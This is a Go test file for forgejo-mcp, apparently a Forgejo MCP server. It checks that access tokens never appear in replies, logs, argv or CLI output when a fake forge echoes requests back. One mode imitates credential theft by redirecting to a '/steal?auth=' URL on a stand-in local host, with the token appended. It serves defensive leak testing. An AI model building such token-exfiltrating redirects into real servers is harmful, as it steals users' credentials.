package cmd_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"sort"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"codeberg.org/forgejo-mcp/forgejo-mcp/internal/fakeforge"
	"codeberg.org/forgejo-mcp/forgejo-mcp/operation"
)

// echoForge answers every request with its own dump (method, URL, every
// header including Authorization, body) in the way mode says: as an error
// message, in every string field of a success, or in a redirect.
func echoForge(t *testing.T, mode *atomic.Value) *fakeforge.Server {
	f := fakeforge.New(t)
	f.Handle("/", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var hdr []string
		for k, v := range r.Header {
			hdr = append(hdr, k+": "+strings.Join(v, ","))
		}
		sort.Strings(hdr)
		dump := fmt.Sprintf("%s %s headers=[%s] body=%.200q", r.Method, r.URL, strings.Join(hdr, "; "), body)
		obj := map[string]any{"message": dump, "login": dump, "name": dump, "title": dump, "body": dump,
			"full_name": dump, "description": dump, "html_url": dump, "email": dump, "browser_download_url": dump}
		switch m := mode.Load().(string); m {
		case "200-object":
			fakeforge.WriteJSON(w, http.StatusOK, obj)
		case "200-array":
			fakeforge.WriteJSON(w, http.StatusOK, []any{obj})
		case "502-html":
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(http.StatusBadGateway)
			_, _ = w.Write([]byte("<pre>" + dump + "</pre>"))
		case "redirect":
			http.Redirect(w, r, "http://127.0.0.2:1/steal?auth="+strings.TrimPrefix(r.Header.Get("Authorization"), "token "), http.StatusFound)
		default:
			var status int
			_, _ = fmt.Sscan(m, &status)
			fakeforge.WriteJSON(w, status, map[string]any{"message": dump, "url": dump, "errors": []string{dump}})
		}
	})
	return f
}

var echoModes = []string{"400", "401", "403", "404", "409", "413", "422", "500", "502-html", "200-object", "200-array", "redirect"}

// TestTokenNeverLeaks runs every tool against a forge that echoes the
// request, headers included, in every way it can, at debug level, and
// greps everything the process wrote and its argv for the token.
func TestTokenNeverLeaks(t *testing.T) {
	var mode atomic.Value
	mode.Store("500")
	f := echoForge(t, &mode)
	p := start(t, f.URL, "--log-level", "debug", "--toolsets", "all,admin") // site administration too
	cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", p.cmd.Process.Pid))
	if err == nil {
		assert.NotContains(t, string(cmdline), fakeforge.Token, "argv")
	}
	p.initialize()
	defs := operation.All()
	id := 0
	for _, m := range echoModes {
		mode.Store(m)
		for _, d := range defs {
			id++
			p.sendJSON(toolCall(id, d.Name, fakeforge.ValidArgs(t, d)))
			reply := p.recv()
			require.EqualValues(t, id, reply["id"], "%s in mode %s", d.Name, m)
			_, _ = resultText(t, reply)
		}
	}
	sent := 0
	for _, r := range f.Requests() {
		if r.Auth == "token "+fakeforge.Token {
			sent++
		}
	}
	require.NotZero(t, sent, "the forge did receive the token, so the echo carried it")

	// CLI mode prints results and errors to its own streams: every tool
	// once, as a process of its own, the modes taken in turn (an error, an
	// echoing answer, a redirect), so each mode meets a third of the tools
	// (every tool in every mode was 1,113 processes, 40 s of the test, for
	// the one printing path the calls share).
	bin, err := binaryPath()
	require.NoError(t, err)
	cliModes := []string{"500", "200-object", "redirect"}
	redacted := map[string]int{}
	for i, d := range defs {
		m := cliModes[i%len(cliModes)]
		mode.Store(m)
		raw, err := json.Marshal(fakeforge.ValidArgs(t, d))
		require.NoError(t, err)
		cmd := exec.Command(bin, "--url", f.URL, "--log-level", "debug", "--cli", d.Name, "--args", string(raw))
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "FORGEJO_ACCESS_TOKEN=" + fakeforge.Token}
		out, _ := cmd.CombinedOutput()
		assert.NotContains(t, string(out), fakeforge.Token, "--cli %s in mode %s", d.Name, m)
		if strings.Contains(string(out), "[REDACTED]") {
			redacted[m]++
		}
	}
	for _, m := range cliModes[:2] { // a redirect is refused before its echo is read
		assert.NotZero(t, redacted[m], "--cli in mode %s: the echo reached some output and was redacted", m)
	}
	t.Logf("--cli: the echo reached the output, redacted, in %v calls per mode", redacted)

	require.NoError(t, p.stdin.Close())
	<-p.exited
	p.exited <- nil
	assert.NotContains(t, p.stdout.String(), fakeforge.Token, "stdout")
	assert.NotContains(t, p.stderr.String(), fakeforge.Token, "stderr at debug level")
	assert.Contains(t, p.stdout.String(), "[REDACTED]", "the echo reached the output and was redacted")
}

// TestTokenNeverLeaksHTTP is TestTokenNeverLeaks for --transport http at
// debug level, where the token is each request's own (the server has none):
// first the token check (GET /api/v1/user) meets every echo mode, with a
// fresh token each time; then, with a token the check accepted (its login
// being the echo, so every log line of its requests names it), every tool
// meets every echo mode. No token may appear in any reply (headers
// included), on stdout or on stderr.
func TestTokenNeverLeaksHTTP(t *testing.T) {
	var mode atomic.Value
	mode.Store("500")
	f := echoForge(t, &mode)
	p := startHTTP(t, f.URL, nil, "--log-level", "debug")
	var tokens []string
	var replies strings.Builder
	call := func(token string, i int, name string, args map[string]any) int {
		scheme := "Bearer "
		if i%2 == 1 {
			scheme = "token "
		}
		status, reply, err := p.call(scheme+token, toolCall(i, name, args))
		require.NoError(t, err)
		replies.WriteString(reply)
		return status
	}

	for i, m := range echoModes {
		mode.Store(m)
		token := fmt.Sprintf("http-check-%02d-0123456789abcdef", i)
		tokens = append(tokens, token)
		status := call(token, i, "get_my_user_info", nil)
		assert.Contains(t, []int{http.StatusOK, http.StatusUnauthorized, http.StatusBadGateway}, status, "token check in mode %s", m)
	}

	token := "http-calls-0123456789abcdef"
	tokens = append(tokens, token)
	mode.Store("200-object")
	require.Equal(t, http.StatusOK, call(token, 0, "get_my_user_info", nil), "the echoing forge accepts the token")
	// 401 last: it evicts the identity, and the token is then refused.
	modes := append(slices.DeleteFunc(slices.Clone(echoModes), func(m string) bool { return m == "401" }), "401")
	id := 0
	for _, m := range modes {
		mode.Store(m)
		for _, d := range operation.All() {
			id++
			call(token, id, d.Name, fakeforge.ValidArgs(t, d))
		}
	}
	sent := map[string]bool{}
	for _, r := range f.Requests() {
		sent[strings.TrimPrefix(r.Auth, "token ")] = true
	}
	for _, tok := range tokens {
		require.True(t, sent[tok], "the forge received %s, so the echo carried it", tok)
	}

	require.NoError(t, p.cmd.Process.Signal(syscall.SIGTERM))
	select {
	case err := <-p.exited:
		require.NoError(t, err, "exit code 0")
	case <-time.After(40 * time.Second):
		t.Fatal("no exit after SIGTERM")
	}
	for _, tok := range tokens {
		noToken(t, "replies", replies.String(), tok)
		noToken(t, "stdout", p.stdout.String(), tok)
		noToken(t, "stderr at debug level", p.stderr.String(), tok)
	}
	assert.Contains(t, p.stderr.String(), "[REDACTED]", "the echo reached the logs and was redacted")
	assert.Contains(t, replies.String(), "[REDACTED]", "the echo reached the replies and was redacted")
}

// noToken fails if text contains token, quoting only the line around it.
func noToken(t *testing.T, where, text, token string) {
	t.Helper()
	i := strings.Index(text, token)
	if i < 0 {
		return
	}
	from, to := max(0, i-300), min(len(text), i+len(token)+100)
	t.Errorf("%s contains the token %s: …%s…", where, token, text[from:to])
}
